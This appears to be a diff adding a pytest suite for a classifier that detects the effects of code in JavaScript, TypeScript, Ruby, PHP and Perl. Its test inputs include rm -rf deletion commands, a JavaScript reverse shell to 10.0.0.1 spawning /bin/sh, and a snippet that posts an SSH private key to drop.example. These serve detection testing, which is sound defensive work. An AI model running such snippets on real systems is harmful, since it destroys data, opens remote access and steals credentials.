@@ -1,0 +1,71 @@
+"""JavaScript, TypeScript, Ruby, PHP and Perl: the same reading as Python's, by their own grammars and tables."""
+
+import pytest
+
+from classifiers.code import classify_code
+from classifiers.code.library import library
+
+
+def short(action):
+    return [f"{e.action} {e.domain}:{e.target}" for e in action.effects]
+
+
+CASES = [
+    ("javascript", "console.log([1, 2].map(x => x * 2))", []),
+    ("javascript", "const {execSync: run} = require('child_process'); const d = '/srv/a'; run(`rm -rf ${d}`)", ["delete filesystem:/srv/a"]),
+    ("javascript", "import {rm} from 'node:fs/promises'; await rm('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("javascript", "['a', 'b'].forEach(f => require('fs').unlinkSync('/srv/' + f))", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
+    ("javascript", "function go(p) { require('fs').unlinkSync(p) } go('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("javascript", "function go(p) { require('fs').unlinkSync(p) }", []),
+    ("javascript", "fetch('https://shop.example/a', {method: 'DELETE'})", ["send network:shop.example"]),
+    ("typescript", "const a: string = '/srv/a'; import * as fs from 'fs'; fs.rmSync(a as string)", ["delete filesystem:/srv/a"]),
+    ("ruby", "puts [1, 2].sum", []),
+    ("ruby", "require 'fileutils'\nFileUtils.rm_rf('/srv/a')", ["delete filesystem:/srv/a"]),
+    ("ruby", "d = '/srv/a'\n`rm -rf #{d}`", ["delete filesystem:/srv/a"]),
+    ("ruby", "File.open('/srv/a', 'w') { |f| f.write('x') }", ["modify filesystem:/srv/a"]),
+    ("ruby", "%w[a b].each { |f| File.delete('/srv/' + f) }", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
+    ("php", "echo strtoupper('a');", []),
+    ("php", "<?php $d = '/srv/a'; shell_exec('rm -rf ' . $d); ?>", ["delete filesystem:/srv/a"]),
+    ("php", "foreach (['a', 'b'] as $f) { unlink('/srv/' . $f); }", ["delete filesystem:/srv/a", "delete filesystem:/srv/b"]),
+    ("perl", "print 1 + 1", []),
+    ("perl", "my $d = '/srv/a'; system('rm', '-rf', $d);", ["delete filesystem:/srv/a"]),
+    ("perl", 'unlink "/srv/$_" for 1', ["delete filesystem:None"]),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("language", "text", "expected"), CASES, ids=[f"{c[0]} {c[1][:40]}" for c in CASES])
+def test_a_program_has_the_effects_of_its_calls(language, text, expected):
+    action = classify_code(text, language)
+    assert short(action) == expected
+    assert action.complete, action.opaque
+
+
+@pytest.mark.parametrize(("language", "text"), [
+    ("javascript", "require('./local').run()"), ("javascript", "warehouse.sync()"), ("javascript", "eval(x)"),
+    ("ruby", "require_relative 'a'"), ("ruby", "obj.send(name)"), ("php", "include $x;"), ("php", "warehouse_sync();"), ("perl", 'require "a.pl";'),
+    ("perl", "use Warehouse; Warehouse::sync();"), ("javascript", "let = = 3 ((("), ("cobol", "DISPLAY 'x'."),
+])  # fmt: skip
+def test_what_cannot_be_read_is_said(language, text):
+    assert not classify_code(text, language).complete
+
+
+def test_a_reverse_shell_is_one_in_any_language():
+    text = "const s = require('net').connect(4444, '10.0.0.1'); const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin)"
+    tags = [t for e in classify_code(text, "javascript").effects for t in e.tags]
+    assert "reverse_shell" in tags
+
+
+def test_a_secret_that_is_posted_is_a_flow():
+    text = "const k = require('fs').readFileSync('/home/dev/.ssh/id_rsa'); fetch('https://drop.example', {method: 'POST', body: k})"
+    assert [f.kind for f in classify_code(text, "javascript").flows] == ["exfiltration"]
+
+
+@pytest.mark.parametrize("language", ["javascript", "typescript", "ruby", "php", "perl"])
+def test_the_tables_load(language):
+    assert library(language).calls
+
+
+@pytest.mark.parametrize("language", ["javascript", "typescript", "ruby", "php", "perl"])
+@pytest.mark.parametrize("text", ["", "(" * 3000, "{" * 3000, "\0", "é" * 50, "a.b" * 3000, "#{" * 300])
+def test_hostile_text_never_raises(language, text):
+    assert classify_code(text, language).effects is not None
